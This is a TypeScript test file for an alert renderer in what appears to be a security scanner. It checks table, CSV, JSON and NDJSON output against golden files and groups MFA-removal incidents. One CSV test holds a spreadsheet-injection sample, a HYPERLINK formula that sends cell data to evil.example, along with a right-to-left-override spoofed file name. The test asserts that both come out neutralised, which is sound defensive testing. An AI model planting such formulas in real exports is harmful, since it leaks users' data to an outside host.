import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { CSV_COLUMNS } from './alert-csv.ts';
import { createAlertWriter, renderAlerts } from './render-alerts.ts';
import type { ScanSummary } from './summary.ts';
import { countAlertsBySeverity } from './summary.ts';
import { FIXTURE_ALERTS } from './test-support/alerts.ts';

const SUMMARY: ScanSummary = {
  files: 4,
  skippedFiles: 1,
  events: 1000,
  bytes: 1_500_000,
  alerts: FIXTURE_ALERTS.length,
  alertsBySeverity: countAlertsBySeverity(FIXTURE_ALERTS),
  unreadable: 0,
  warnings: 0,
  duplicates: 3,
  elapsedMs: 250,
};

const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/** Compares with a golden file; `UPDATE_GOLDEN=1` rewrites it (then review the diff). */
function golden(name: string, actual: string): void {
  const url = new URL(`./golden/${name}`, import.meta.url);
  if (process.env['UPDATE_GOLDEN'] === '1') writeFileSync(url, actual);
  assert.equal(actual, readFileSync(url, 'utf8'), `golden/${name} differs (UPDATE_GOLDEN=1 to rewrite)`);
}

void test('table output (no colour) matches the golden file', () => {
  golden('alerts.table.txt', renderAlerts(FIXTURE_ALERTS, 'table', { color: false, summary: SUMMARY }));
});

void test('table output fits a narrow terminal and carries no control characters', () => {
  const out = renderAlerts(FIXTURE_ALERTS, 'table', { color: false, columns: 120 });
  for (const line of out.trimEnd().split('\n'))
    assert.ok(Array.from(line).length <= 120, `too wide: ${line}`);
  assert.ok(!CONTROL.test(out));
  golden('alerts.table-120.txt', out);
});

void test('table colours the severity only when asked', () => {
  const plain = renderAlerts(FIXTURE_ALERTS, 'table', { color: false });
  const coloured = renderAlerts(FIXTURE_ALERTS, 'table', { color: true });
  assert.ok(!plain.includes('\u001b'));
  assert.ok(coloured.includes('\u001b[1;97;41mcritical'));
  // The only escapes are our colour codes.
  assert.ok(!coloured.replace(/\u001b\[[0-9;]*m/g, '').includes('\u001b'));
  assert.equal(renderAlerts([], 'table', { color: false }), 'No alerts.\n');
});

void test('csv output matches the golden file; documented columns; no cell starts a formula', () => {
  const out = renderAlerts(FIXTURE_ALERTS, 'csv', { color: false });
  golden('alerts.csv', out);
  const [header] = out.split('\r\n');
  assert.equal(header, CSV_COLUMNS.map((c) => c.name).join(','));
  assert.ok(!/(^|,)"?[=+\-@]/m.test(out.replace(/'[=+\-@ ]/g, '')), 'formula start found');
  assert.ok(out.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`));
  assert.ok(out.includes(`,'  -2+3 @SUM(1)\\u202egnp.exe,`));
  assert.ok(!/[\u001b\u0007\u202e]/.test(out));
});

void test('json output matches the golden file, parses back, and keeps a stable key order', () => {
  const out = renderAlerts(FIXTURE_ALERTS, 'json', { color: false, summary: SUMMARY });
  golden('alerts-json.golden', out);
  const parsed = JSON.parse(out);
  assert.deepEqual(Object.keys(parsed), ['alerts', 'summary']);
  assert.equal(parsed.alerts.length, 4);
  assert.equal(parsed.alerts[1].actor.userAgent, FIXTURE_ALERTS[1]!.actor.userAgent, 'value kept exactly');
  assert.deepEqual(Object.keys(parsed.alerts[0]).slice(0, 5), [
    'id',
    'rule',
    'severity',
    'riskScore',
    'title',
  ]);
  assert.equal(parsed.summary.duplicates, 3);
  assert.ok(!CONTROL.test(out));
  assert.deepEqual(JSON.parse(renderAlerts([], 'json', { color: false })), { alerts: [], summary: null });
});

void test('ndjson is one alert per line, each a JSON object', () => {
  const out = renderAlerts(FIXTURE_ALERTS, 'ndjson', { color: false });
  const lines = out.trimEnd().split('\n');
  assert.equal(lines.length, 4);
  assert.deepEqual(
    lines.map((l) => (JSON.parse(l) as { id: string }).id),
    ['alert-1', 'alert-2', 'alert-3', 'alert-4'],
  );
});

void test('the streaming writer emits json alerts as they come', () => {
  const chunks: string[] = [];
  const writer = createAlertWriter({ write: (t) => chunks.push(t) }, 'json', { color: false });
  writer.write(FIXTURE_ALERTS[0]!);
  assert.ok(chunks.join('').includes('"alert-1"'), 'written before end');
  writer.write(FIXTURE_ALERTS[1]!);
  writer.end(SUMMARY);
  assert.equal(JSON.parse(chunks.join('')).alerts.length, 2);
});

void test('the table shows an incident as one line with its alerts under it, its reasons said once', () => {
  const [removal, other] = FIXTURE_ALERTS;
  assert.ok(removal && other);
  const incident = { removalEventId: removal.event.id, role: 'removal' as const };
  const lead = { ...removal, classification: 'rotation' as const, incident };
  const deletion = {
    ...other,
    id: 'alert-deletion',
    rule: { ...other.rule, name: 'IAM virtual MFA device deleted' },
    event: {
      ...other.event,
      id: 'deletion-event',
      name: 'DeleteVirtualMFADevice',
      time: '2024-03-09T00:00:00Z',
    },
    classification: 'rotation' as const,
    reasons: [{ code: 'incident-member', weight: 0, message: 'part of the MFA removal' }],
    incident: { removalEventId: removal.event.id, role: 'member' as const },
  };
  // The member comes first in time order; the table still puts it under its removal.
  const out = renderAlerts([deletion, lead, other], 'table', { color: false });
  const lines = out.split('\n').filter((line) => line !== '');
  const leadLine = lines.findIndex((line) => line.includes(removal.rule.name) && !line.includes('└'));
  const memberLine = lines.findIndex((line) => line.includes('└ IAM virtual MFA device deleted'));
  assert.ok(leadLine > 0 && memberLine > leadLine, out);
  const between = lines.slice(leadLine + 1, memberLine);
  assert.ok(
    between.every((line) => line.startsWith('  ↳')),
    "only the removal's reasons sit between",
  );
  assert.ok(!out.includes('part of the MFA removal'), "the member's own reasons are not repeated");
});
